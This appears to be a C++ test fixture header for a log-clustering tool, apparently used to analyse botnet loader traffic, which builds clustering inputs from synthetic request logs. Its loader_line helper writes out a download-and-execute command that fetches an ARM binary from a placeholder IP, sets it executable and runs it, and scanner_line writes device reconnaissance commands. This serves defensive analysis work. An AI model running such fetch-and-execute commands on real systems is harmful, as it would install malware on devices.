#pragma once

#include "loadermine/cluster.hpp"
#include "loadermine/preprocess.hpp"
#include "loadermine/template.hpp"
#include "loadermine/tokenizer.hpp"
#include "loadermine/vectorizer.hpp"
#include "loadermine/workbench.hpp"

#include <fmt/format.h>

#include <string>
#include <utility>
#include <vector>

namespace fixture {

using HostPayload = std::pair<std::string, loadermine::Bytes>;

// Runs the in-memory chain on hand-written logs. A threshold of 0 cuts just
// below the root, leaving its two children as clusters.
inline loadermine::WorkbenchInputs inputs_from(const std::vector<HostPayload>& logs, double threshold = 0.0) {
  using namespace loadermine;
  WorkbenchInputs in;
  std::vector<TokenSequence> seqs;
  std::vector<std::string> ids;
  for (std::size_t i = 0; i < logs.size(); ++i) {
    RequestLog log;
    log.log_id = fmt::format("L{:03}", i);
    log.source_host = logs[i].first;
    log.payload = logs[i].second;
    log.session_ids = {log.log_id};
    seqs.push_back({log.log_id, tokenize(log.payload)});
    ids.push_back(log.log_id);
    in.corpus.push_back(std::move(log));
  }
  const auto vocab = fit_vocabulary(seqs);
  std::vector<FeatureVector> vectors;
  for (const auto& s : seqs) vectors.push_back(vectorize(s, vocab));
  in.tree = agglomerate(pairwise_distance(vectors), ids);
  in.partition = cut(in.tree, threshold > 0 ? threshold : in.tree.node(in.tree.root).height);
  in.templates = build_templates(in.tree, seqs);
  return in;
}

inline loadermine::Bytes loader_line(int i) {
  return fmt::format("cd /tmp; wget http://198.51.100.7/bins/{}.arm; chmod 777 {}.arm; ./{}.arm\r\n", i, i, i);
}

inline loadermine::Bytes scanner_line(int i) {
  return fmt::format("cat /proc/cpuinfo; uname -a; /bin/busybox Q{}\r\n", i);
}

}  // namespace fixture
